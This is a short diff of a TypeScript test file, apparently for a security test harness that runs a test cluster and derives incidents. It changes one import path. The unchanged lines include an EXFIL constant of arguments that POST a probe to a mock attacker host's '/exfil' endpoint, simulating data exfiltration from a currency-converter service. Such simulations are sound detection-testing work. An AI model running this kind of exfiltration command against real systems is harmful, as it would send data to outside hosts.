@@ -10,7 +10,7 @@ import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DEFAULT_MANIFESTS } from '../src/control-plane/cluster.ts';
 import type { Incident } from '../src/evidence/incidents/derive.ts';
-import { startTestCluster, type TestCluster } from './support/cluster.ts';
+import { startTestCluster, type TestCluster } from '../testing/cluster.ts';
 
 const CONVERTER = ['trustusbank-bank-vendors', 'currency-converter'] as const;
 const EXFIL = ['-X', 'POST', '-d', '{"probe":1}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil'];
